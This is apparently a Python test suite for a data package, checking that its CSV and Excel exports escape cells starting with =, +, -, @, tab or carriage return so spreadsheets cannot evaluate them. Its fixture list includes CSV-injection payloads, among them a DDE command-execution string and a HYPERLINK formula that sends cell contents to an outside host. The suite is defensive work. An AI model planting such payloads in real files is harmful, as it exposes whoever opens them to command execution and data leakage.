"""No formula in what people open (issue 22 item 1): the one rule of ggutils.io, in the CSVs
the pipeline writes and reads back, and in the briefing's embedded downloads."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from ggutils.brief.downloads import csv_download, xlsx_download
from ggutils.io import (
    FORMULA_STARTS,
    csv_text,
    csv_value,
    formula_like,
    read_csv,
    write_csv_atomic,
)

ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+2",
           "-1+2", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=", "-"]
TRICKY = ["'=already marked", "''", "'", "'a quote", "''=x", "plain", "", "-2.77", "+5",
          "-2,77", "−2,7", "1e5", "-.5"]


def spreadsheet_evaluates(text: str) -> bool:
    """What a spreadsheet does with a CSV cell: a formula when it starts with a formula
    character, unless it is a plain number."""
    return formula_like(text)


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", "1", ".",
                                         " ", "e"]), max_size=6))
def test_marking_round_trips_and_leaves_nothing_a_spreadsheet_evaluates(text):
    marked = csv_text(text)
    assert csv_value(marked) == text
    assert not spreadsheet_evaluates(marked)


def test_plain_numbers_stay_numbers_and_attacks_are_marked():
    for text in ATTACKS:
        assert csv_text(text) == "'" + text, text
    for text in ("-2.77", "+5", "-.5", "12"):
        assert csv_text(text) == text
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def frame() -> pd.DataFrame:
    # a bare carriage return inside a field is not quoted by pandas' CSV writer, so it would
    # end the row: such a text is quarantined at clean (a control character, item 5)
    texts = [t for t in ATTACKS + TRICKY if "\r" not in t]
    return pd.DataFrame({
        "text": texts,
        "number": [float(-i) - 0.5 for i in range(len(texts))],
        "code": pd.Categorical(["="] * (len(texts) - 1) + [">="]),
        "missing": [None] * len(texts),
    })


def test_processed_csv_is_marked_on_disk_and_read_back_unchanged(tmp_path):
    path = write_csv_atomic(frame(), tmp_path / "table.csv")
    on_disk = pd.read_csv(path, dtype=str, keep_default_na=False)
    for column in ("text", "code"):
        assert not on_disk[column].map(spreadsheet_evaluates).any(), column
    assert on_disk["number"].str.startswith("-").all(), "numbers are written as numbers"
    back = read_csv(path, keep_default_na=False, na_values={"number": [""]})
    assert list(back["text"]) == list(frame()["text"])
    assert list(back["code"]) == list(frame()["code"])
    assert back["number"].dtype == float and list(back["number"]) == list(frame()["number"])


def test_csv_download_is_marked():
    content = csv_download("x.csv", frame()).content
    table = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", dtype=str,
                        keep_default_na=False)
    assert not table["text"].map(spreadsheet_evaluates).any()
    assert "'=cmd|' /C calc'!A0" in set(table["text"])


def test_xlsx_download_holds_text_as_strings_and_numbers_as_numbers():
    content = xlsx_download("x.xlsx", {"data": frame()}).content
    ws = openpyxl.load_workbook(io.BytesIO(content))["data"]
    cells = {ws.cell(1, c).value: [ws.cell(r, c) for r in range(2, ws.max_row + 1)]
             for c in range(1, ws.max_column + 1)}
    assert not [c.coordinate for col in cells.values() for c in col if c.data_type == "f"]
    assert [c.value if c.value is not None else "" for c in cells["text"]] == \
        list(frame()["text"])
    assert all(c.data_type == "s" for c in cells["text"] if c.value is not None)
    assert [c.value for c in cells["number"]] == list(frame()["number"])
    assert all(c.data_type == "n" for c in cells["number"])
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        assert not any(b"<f>" in zf.read(n) or b"<f " in zf.read(n)
                       for n in zf.namelist() if n.startswith("xl/worksheets/"))
